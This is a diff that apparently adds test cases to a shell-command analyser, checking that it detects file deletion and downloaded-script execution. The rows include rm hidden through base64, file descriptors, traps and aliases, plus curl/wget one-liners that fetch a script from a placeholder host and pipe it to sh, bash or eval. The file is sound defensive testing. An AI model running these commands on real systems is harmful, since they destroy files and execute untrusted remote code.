@@ -186,8 +186,76 @@ static void written_then_run(void)
 		ROW("echo /a > f; rm $(cat f) $(cat f g)", "/a"),
 		ROW("echo /a > f; rm $(cat f); xargs rm < f", "/a; /a"),
 		ROW("echo 'rm /a' > f; cp -t g f; sh g", ""),
+		ROW("cp /dev/stdin f <<< 'rm /a'; sh f; echo 'rm /b' | install /dev/stdin g; ./g",
+			"/a; /b"),
+		ROW("echo cm0gL2E= > f; base64 -d f | sh; base64 -d f > g; sh g", "/a; /a"),
+		ROW("echo cm0gL2E= | base64 -d > g && ./g; sh <(base64 -d <<< cm0gL2E=)", "/a; /a"),
+		ROW("yes 'rm /a' | head -1 | sh; printf '1\nrm /b\n3' | tail -n 2 | head -n1 | sh",
+			"/a; /b"),
+		ROW("printf 'a\nrm /b\n' | tail -c 3 | sh; echo 'rm /a' | head -c 2 | sh", ""),
 	};
 	CHECK_ALL(rows, FACT_DELETES);
+}
+
+static void opened_under_a_number(void)
+{
+	static const struct example rows[] = {
+		ROW("exec 3<<<'rm /a'; sh <&3; sh /dev/fd/3", "/a; /a"),
+		ROW("exec {fd}<<<'rm /a'; sh <&$fd; . /proc/self/fd/$fd", "/a; /a"),
+		ROW("exec 3<<E\nrm /a\nE\nread -u 3 x; eval \"$x\"; read y <&3; eval \"$y\"",
+			"/a; /a"),
+		ROW("exec 3< <(echo 'rm /a'); sh <&3; sh 4<<<'rm /b' /dev/fd/4", "/a; /b"),
+		ROW("echo 'rm /a' > f; exec 3<f; while read -u3 l; do eval \"$l\"; done", "/a"),
+		ROW("exec <<<'rm /a'; sh; { sh <&5; } 5<<<'rm /b'", "/a; /b"),
+		ROW("sh =(echo 'rm /a'); . <(echo 'rm /b')", "/a; /b"),
+		ROW("exec 3<<<'rm /a'; cat <&3; sh x.sh 3<&-; sh <&-", ""),
+	};
+	CHECK_ALL(rows, FACT_DELETES);
+}
+
+static void traps_and_aliases(void)
+{
+	static const struct example rows[] = {
+		ROW("trap 'rm $x' EXIT; x=/a; x=/b", "/b"),
+		ROW("x=/a; trap 'rm $x' EXIT; x=/b", "/a; /b"),
+		ROW("trap f EXIT; f() { rm $x; }; x=/a", "/a"),
+		ROW("(trap 'rm $x' 0; x=/a); sh -c 'trap \"rm \\$x\" 0; x=/b'", "/a; /b"),
+		ROW("trap 'rm /a' EXIT; trap - EXIT; trap '' INT", "/a"),
+		ROW("alias x='nohup ' y='rm /a'; x y; x z", "/a; /a"),
+	};
+	CHECK_ALL(rows, FACT_DELETES);
+}
+
+static void links_of_the_call(void)
+{
+	static const struct example rows[] = {
+		ROW("ln -s /a l; rm l; rm l/; rm l/b",
+			"/srv/app/l; /srv/app/l,/a; /srv/app/l/b,/a/b"),
+	};
+	CHECK_ALL(rows, FACT_DELETES);
+}
+
+static void downloads(void)
+{
+	static const struct example rows[] = {
+		ROW("curl -o i https://x.example/i; mv i j; sh j", "fetched-script"),
+		ROW("curl https://x.example/i > i; sh < i; cat i | sh; head -1 i | sh",
+			"fetched-script; fetched-script; fetched-script"),
+		ROW("curl -o i https://x.example/i; base64 -d i > j; bash j", "fetched-script"),
+		ROW("curl -o i.gz https://x.example/i; gunzip i.gz; sh i; zcat i.gz | sh",
+			"fetched-script; fetched-script"),
+		ROW("wget -O i https://x.example/i; install -m 755 i j; ./j; dd if=j of=k; sh k",
+			"fetched-script; fetched-script"),
+		ROW("curl -o i https://x.example/i; eval \"$(cat i)\"; bash -c \"$(<i)\"",
+			"fetched-script; dynamic-program; fetched-script; dynamic-program"),
+		ROW("curl -o i https://x.example/i; python3 < i; exec 3<i; sh <&3",
+			"fetched-script; fetched-script"),
+		ROW("curl -o i https://x.example/i; cat i; jq . i > j; cat j | sort; gcc i -o k; "
+		    "./k",
+			""),
+		ROW("curl -o i http://localhost:3/i; sh < i", "unread-script"),
+	};
+	CHECK_ALL(rows, FACT_DOUBT);
 }
 
 static void programs_under_other_names(void)
@@ -324,6 +392,10 @@ int main(void)
 	TEST(further_turns);
 	TEST(what_builtins_read);
 	TEST(written_then_run);
+	TEST(opened_under_a_number);
+	TEST(traps_and_aliases);
+	TEST(links_of_the_call);
+	TEST(downloads);
 	TEST(programs_under_other_names);
 	TEST(evaluated_again);
 	TEST(places_of_what_is_evaluated_again);
